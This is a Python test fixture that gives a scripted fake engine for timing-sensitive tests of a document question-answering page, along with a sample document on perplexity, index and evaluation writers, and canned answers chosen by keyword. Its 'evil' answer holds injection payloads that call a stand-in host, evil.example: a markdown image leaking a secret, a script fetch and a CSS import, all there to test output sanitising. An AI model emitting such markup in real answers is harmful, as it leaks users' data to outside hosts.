"""An engine with a script instead of a model, for tests of the page that need exact timing.

A question decides what happens: "slow ..." writes a word at a time until it is stopped, "nothing ..." is refused,
"broken ..." fails, "crash ..." fails in a way nobody foresaw, "evil ..." tries to load what it must not, "doubtful
..." says what its quotes do not, "formula ..." has formulas and code, "quiz ..." is one, "down ..." meets a model that nobody
reaches, "long ..." is asked about before it costs anything; everything else is answered at once.
"""

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

from app.types import (
    Answer,
    AnswerEvent,
    Done,
    Footnote,
    Nearest,
    Offer,
    Question,
    Reading,
    Searching,
    Sentence,
    Usage,
    Writing,
)
from app.writers.llm.api.gateway import Outage
from retrieval.config import Settings
from retrieval.errors import IndexMismatch, WriterFailed
from retrieval.index.codec import document_to_json
from retrieval.index.manifest import FORMAT, FileEntry, Manifest
from retrieval.index.version_files import write_checksums
from retrieval.index.versions import current
from retrieval.types import Block, Document, Retrieval, Section

TEXT = """# Measures of a model

How a language model is judged.

## Perplexity

Perplexity says how **unsure** a model is about the next token. It falls when the context gets longer.

- a low value: the model is sure
- a high value: the model guesses

## Table

| measure | better |
|---|---|
| perplexity | lower |
| accuracy | higher |

## Code

```python
def perplexity(loss):
    return exp(loss)
```
"""


def _block(kind: str, text: str, *, level: int = 0, lead: str = "", language: str = "") -> Block:
    start = TEXT.index(text)
    return Block(kind, start, start + len(text), level, lead, language)  # type: ignore[arg-type]


HEADER = "| measure | better |"
SECTIONS = (
    Section(("Perplexity",), 2, TEXT.index("## Perplexity"), TEXT.index("## Table")),
    Section(("Table",), 2, TEXT.index("## Table"), TEXT.index("## Code")),
    Section(("Code",), 2, TEXT.index("## Code"), len(TEXT)),
)
DOCUMENT = Document(
    id="measures",
    path="measures.md",
    title="Measures of a model",
    text=TEXT,
    blocks=(
        _block("heading", "# Measures of a model", level=1),
        _block("paragraph", "How a language model is judged."),
        _block("heading", "## Perplexity", level=2),
        _block(
            "paragraph",
            "Perplexity says how **unsure** a model is about the next token. It falls when the context gets longer.",
        ),
        _block("item", "- a low value: the model is sure"),
        _block("item", "- a high value: the model guesses"),
        _block("heading", "## Table", level=2),
        _block("row", f"{HEADER}\n|---|---|"),
        _block("row", "| perplexity | lower |", lead=HEADER),
        _block("row", "| accuracy | higher |", lead=HEADER),
        _block("heading", "## Code", level=2),
        _block("code", "```python\ndef perplexity(loss):\n    return exp(loss)\n```", language="python"),
    ),
    sections=SECTIONS,
)


def note(number: int, quote: str, section: str = "Perplexity", *, kind: str = "sentence", lead: str = "") -> Footnote:
    """A footnote on a quote of the document, its paragraph around it."""
    start = TEXT.index(quote)
    block = next(block for block in DOCUMENT.blocks if block.start <= start < block.end)
    return Footnote(
        number=number,
        document_id=DOCUMENT.id,
        start=start,
        end=start + len(quote),
        quote=quote,
        path=(DOCUMENT.title, section),
        paragraph=TEXT[block.start : block.end],
        paragraph_start=block.start,
        kind=kind,
        lead=lead,
    )


FIRST = note(1, "Perplexity says how **unsure** a model is about the next token.")
SECOND = note(2, "It falls when the context gets longer.")
ANSWER_TEXT = "Perplexity says how unsure a model is about the next token.[1] It falls when the context gets longer.[2]"

DOUBTFUL_TEXT = (
    "The perplexity of GPT-4 is 60.[1] It falls when the context gets longer.[2] Most teams do not measure it."
)
DOUBTFUL = (
    Sentence(0, 33, (1,), ("GPT-4", "60")),
    Sentence(34, 75, (2,)),
    Sentence(76, len(DOUBTFUL_TEXT), (), ("unsupported",)),
)


def write_index(index_dir: Path, name: str = "v1") -> None:
    """A version with the document in it, as far as the pages read one, and makes it live."""
    folder = index_dir / "versions" / name
    (folder / "documents").mkdir(parents=True)
    (folder / "documents" / f"{DOCUMENT.id}.json").write_text(json.dumps(document_to_json(DOCUMENT)), encoding="utf-8")
    entry = FileEntry("d1", DOCUMENT.id, DOCUMENT.title, len(TEXT), 3, 5)
    questions = ["What is perplexity?", "When does perplexity fall?"]
    course = {"id": DOCUMENT.id, "title": DOCUMENT.title, "path": DOCUMENT.path, "questions": questions}
    manifest = Manifest(
        format=FORMAT,
        created="2026-01-02T03:04:05+00:00",
        corpus="corpus",
        title="Models, measured",
        made_with={"model": "none"},
        files={DOCUMENT.path: entry},
        skipped={"notes.odt": {"message": "odt files cannot be read.", "remedy": "Save it as docx."}},
        counts={"documents": 1, "sections": 3, "chunks": 3, "windows": 5},
        course={"title": "Models, measured", "documents": [course]},
    )
    place = {"start": TEXT.index("## Code"), "where": "Code", "note": "4 tokens"}
    suspicious = [{"kind": "short section", "count": 2, "places": [place]}]
    told = {
        "id": DOCUMENT.id,
        "title": DOCUMENT.title,
        "suspicious": suspicious,
        "remarks": ["left out: <nav>"],
        "uncovered": 0,
    }
    shared = [{"text": "The same words.", "documents": ["a.md", "b.md"]}]
    (folder / "health.json").write_text(json.dumps({"documents": [told], "duplicates": shared}), encoding="utf-8")
    (folder / "manifest.json").write_text(manifest.to_json(), encoding="utf-8")
    write_checksums(folder)
    (index_dir / "CURRENT").write_text(name + "\n", encoding="utf-8")


def write_results(folder: Path) -> None:
    """Three evaluations, as `python -m evals run` leaves them."""
    folder.mkdir(parents=True)
    runs = [
        {
            "name": "own",
            "split": "dev",
            "created": f"2026-01-0{day}T03:04:05+00:00",
            "version": f"v{day}",
            "measures": {"R@1": found - 0.2, "R@5": found, "RR@10": found - 0.1},
            "intervals": {"R@5": [found - 0.1, found + 0.1]},
            "n": {"measured": 96},
            "refusal": {"auc": 0.95, "unanswerable_refused": 0.8, "answerable_refused": 0.05},
            "latency_ms": {"p50": 4.2, "p95": 9.0},
            "per_kind": {"fact": {"n": 40, "measures": {"R@5": found, "RR@10": 0.8}}},
        }
        for day, found in enumerate((0.7, 0.75, 0.8), start=1)
    ]
    (folder / "history.jsonl").write_text("".join(f"{json.dumps(run)}\n" for run in runs), encoding="utf-8")
    (folder / "own-dev.json").write_text(json.dumps(runs[-1]), encoding="utf-8")


EVIL_TEXT = """![leak](https://evil.example/?q=secret) <img src="https://evil.example/x"> [1]

<script>fetch("https://evil.example/y")</script> [follow](https://evil.example/z) <style>@import "https://evil.example/s"</style>
"""


FORMULA_TEXT = r"""Perplexity is $2^{H(p)}$, not $5 to $10:[1]

$$H(p) = -\sum_{x} p(x) \log_2 p(x)$$

This one cannot be set: $\frac{1$.[2]

```python
def perplexity(loss):
    return exp(loss)
```
"""


QUIZ_TEXT = """**1** What does perplexity say?

**2** When does it fall?

---

**1** Perplexity says how unsure a model is about the next token.[1]

**2** It falls when the context gets longer.[2]
"""


@dataclass
class FakeEngine:
    """Its version is whatever is live when it is asked."""

    settings: Settings
    word_seconds: float = 0.1
    asked: list[Question] = field(default_factory=list)
    sessions: list[str] = field(default_factory=list)

    def refresh(self) -> bool:
        return False

    def starters(self, version: str) -> tuple[str, ...]:
        return ()

    def outages(self) -> tuple[Outage, ...]:
        """A model is out from a question on that begins with "down" until the next that does not."""
        down = bool(self.asked) and self.asked[-1].text.startswith("down")
        return (Outage("", "nobody answers at api.anthropic.com", 2, 15.0),) if down else ()

    def answer(self, question: Question, *, session: str = "") -> Iterator[AnswerEvent]:
        self.asked.append(question)
        self.sessions.append(session)
        yield Searching(question.text)
        match question.text.split()[0].lower():
            case "nothing":
                nearest = (Nearest(DOCUMENT.id, (DOCUMENT.title, "Perplexity"), SECTIONS[0].start),)
                yield Done(Answer("", (), refused="low confidence", nearest=nearest, confidence=0.1, writer="excerpts"))
            case "broken":
                raise WriterFailed("The writer could not be reached. Try again in a minute.")
            case "crash":
                raise ZeroDivisionError("secret detail")
            case "evil":
                yield Done(_answer(EVIL_TEXT))
            case "formula":
                yield Done(_answer(FORMULA_TEXT))
            case "doubtful":
                yield Done(replace(_answer(DOUBTFUL_TEXT), sentences=DOUBTFUL, writer="claude", dropped=2))
            case "quiz":
                yield Done(replace(_answer(QUIZ_TEXT), sentences=(), writer="tasks"))
            case "long" if not question.agreed:
                yield Done(Answer("", (), refused="price", confidence=1.0, offer=Offer(3, 0.3141, 0.5)))
            case "slow":
                yield from self._slowly()
            case _:
                yield Reading(Retrieval(question.text, (), (), 0.9, (), current(self.settings)))
                yield Writing(ANSWER_TEXT, (FIRST, SECOND))
                yield Done(_answer(ANSWER_TEXT))

    def _slowly(self) -> Iterator[AnswerEvent]:
        yield Reading(Retrieval("q", (), (), 0.9, (), current(self.settings)))
        words = ["Perplexity", "says", "it.[1]"]
        for count in range(1, 600):
            time.sleep(self.word_seconds)
            words.append(f"word{count}")
            yield Writing(" ".join(words), (FIRST,))
        yield Done(_answer(" ".join(words)))


def _answer(text: str) -> Answer:
    return Answer(
        text=text,
        footnotes=(FIRST, SECOND),
        sentences=(Sentence(0, 62, (1,)), Sentence(63, len(text), (2,))),
        confidence=0.92,
        writer="excerpts",
        model="none",
        usage=Usage(1200, 80, cost=0.0032),
        timings_ms={"search": 6.0, "write": 20.0},
        suggestions=("What does a low value mean?", "Which measure is better when higher?"),
    )


def open_fake(settings: Settings) -> FakeEngine:
    """Refuses a version named `unfit`, as an engine does whose model is not the index's."""
    if current(settings) == "unfit":
        raise IndexMismatch("The index was made with other settings. Run: make index")
    return FakeEngine(settings)
